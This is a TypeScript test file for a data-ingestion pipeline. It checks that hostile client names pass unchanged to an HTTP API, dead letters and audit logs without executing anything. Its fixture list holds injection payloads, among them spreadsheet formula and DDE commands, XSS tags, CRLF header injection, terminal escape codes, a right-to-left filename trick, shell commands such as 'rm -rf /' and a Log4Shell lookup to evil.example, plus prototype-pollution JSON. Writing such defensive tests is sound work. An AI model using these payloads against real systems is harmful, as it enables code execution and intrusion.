import { afterEach, describe, expect, it, vi } from 'vitest';
import { feedNamed } from '../../feeds/index.ts';
import { traffic } from '../../feeds/traffic.ts';
import { HttpSink } from '../../lambdas/adapters/http-sink.ts';
import { letterOf, rawPayloadOf } from '../../lambdas/core/dead-letters/letter-of.ts';
import { prepareRecord } from '../../lambdas/core/records/prepare-record.ts';
import { readHeader } from '../../lambdas/core/records/read-header.ts';
import { letter as letterSchema } from '../../lambdas/messages.ts';
import { createAuditLog } from '../../lambdas/runtime/audit-logger.ts';
import { limits } from '../support/feed-fixture.ts';
import { sinkRequest } from '../support/sink-request.ts';
import { startRawServer } from '../support/raw-server.ts';

/** What means something to those who read an account: spreadsheets, browsers, terminals, logs, HTTP, shells. */
const hostile: [string, string][] = [
  ['a formula', '=HYPERLINK("http://evil.example","pay")'],
  ['a command of a spreadsheet', `@SUM(1+1)*cmd|' /C calc'!A0`],
  ['mark-up', '<script>alert(1)</script><img src=x onerror=alert(1)>'],
  ['a header', 'x\r\nX-Request-ID: 0\r\nX-Admin: 1\r\n\r\nGET / HTTP/1.1'],
  ['a line of a log', 'x\n{"level":"INFO","message":"file closed"}'],
  ['a terminal’s commands', 'x\u001b]0;owned\u0007\u001b[2J\u009b1A'],
  ['writing turned round', 'x\u202egpj.exe\u2069'],
  ['a shell’s words', '$(reboot) `id` ; rm -rf / && %0a ${jndi:ldap://evil.example/a}'],
  ['the names of objects’ own parts', '__proto__'],
];

const row = (client: string) => ({
  SpotID: 'SP-1',
  StationCode: 'W',
  AirDateTime: '2026-01-05T06:00:00',
  Duration: '30',
  ClientName: client,
});
const dialect = { format: 'jsonl', encoding: 'utf-8', bodyOffset: 0, bodyLine: 1 } as const;

function prepared(text: string) {
  const bytes = Buffer.from(text);
  return prepareRecord({ record: 1, line: 1, offset: 0, bytes, problem: null }, feedNamed('traffic'), dialect, [
    'c'.repeat(64),
  ]);
}

const endings: (() => Promise<void>)[] = [];
afterEach(async () => {
  for (const end of endings.splice(0).reverse()) await end();
  vi.restoreAllMocks();
});

describe('a record with', () => {
  it.each(hostile)('%s reaches the API as it was written, and nothing but the body is sent', async (_, client) => {
    const server = await startRawServer((socket) => socket.write('HTTP/1.1 200 OK\r\ncontent-length: 0\r\n\r\n'));
    const token = () => Promise.resolve('t0ken');
    const sink = new HttpSink({
      baseUrl: `http://127.0.0.1:${server.port}`,
      path: '/ingest',
      connections: 1,
      tokens: { token, refresh: token },
      clock: { now: () => 0 },
    });
    endings.push(server.close, () => sink.close());
    const { result } = prepared(JSON.stringify(row(client)));
    if (result.kind !== 'good') throw new Error(result.problem.message);
    await sink.deliver(sinkRequest(result), new AbortController().signal);

    expect(server.requests).toHaveLength(1);
    const [head = '', body = ''] = (server.requests[0] ?? '').split(/\r\n\r\n(.*)/s);
    const [start, ...headers] = head.split('\r\n');
    expect(start).toBe('POST /ingest HTTP/1.1');
    expect(headers.map((line) => line.replace(/:.*/s, '')).sort()).toEqual(
      ['host', 'connection', 'authorization', 'content-type', 'x-request-id', 'content-length'].sort(),
    );
    expect(head).toContain(`x-request-id: ${result.requestId}`);
    expect(JSON.parse(Buffer.from(body, 'latin1').toString())).toMatchObject({ advertiser: client });
  });

  it.each(hostile)(
    '%s is in a letter exactly, on one line of a log without control sequences, and in no message',
    (_, client) => {
      const text = JSON.stringify({ ...row(client), Duration: client });
      const { result, bytes, ...place } = prepared(text);
      if (result.kind !== 'rejected') throw new Error('It should have been rejected.');
      expect(result.problem.message).toBe('Duration must be a whole number of seconds');

      const file = { fileId: 'f1', feed: 'traffic', limits, source: { bucket: 'b', key: `traffic/${client}` } };
      const { reason, message: error, field } = result.problem;
      const fault = { outcome: 'rejected', reason, error, field, status: null, answer: null } as const;
      const made = letterOf(
        file,
        { ...place, batch: 1, raw: rawPayloadOf(bytes) },
        { ...fault, requestId: null, attempts: 0 },
        0,
      );
      const read = letterSchema.parse(JSON.parse(JSON.stringify({ ...made, letter_id: 'l1' })));
      expect(read).toMatchObject({ raw_payload: text, source_file: `s3://b/traffic/${client}` });

      const written: string[] = [];
      vi.spyOn(process.stdout, 'write').mockImplementation((chunk) => written.push(String(chunk)) > 0);
      createAuditLog('test').info('dead letter failed again', { key: file.source.key });
      const lines = written.join('').trimEnd().split('\n');
      expect(lines).toHaveLength(1);
      const key = file.source.key.replace(/[\u009b\u202e\u2069]/g, '·');
      expect(JSON.parse(lines[0] ?? '')).toMatchObject({ key });
      expect(lines[0]).not.toMatch(/[\p{Cc}\u202e\u2069]/u);
    },
  );
});

it('names that objects have of their own are ordinary data, and change no object', () => {
  const text = JSON.stringify(row('c')).replace('{', '{"__proto__":{"SpotID":"other","polluted":1},"constructor":"x",');
  const { result } = prepared(text);
  expect(result).toMatchObject({ kind: 'good', payload: { spot_id: 'SP-1', advertiser: 'c' } });
  expect({}).not.toHaveProperty('polluted');
});

it('a header is quoted as plain text', () => {
  const column = '\u001b[2J<b>\u202eevil\u0007';
  const head = Buffer.from(`${traffic.columns.join(',')},${column},${column}\n`);
  const columns = [...traffic.columns, column];
  expect(readHeader(head, true, { ...traffic, columns, key: 'traffic/a.csv' })).toMatchObject({
    kind: 'refused',
    code: 'duplicate_columns',
    message: 'The CSV header has the column "[2J<b> evil" more than once.',
  });
});
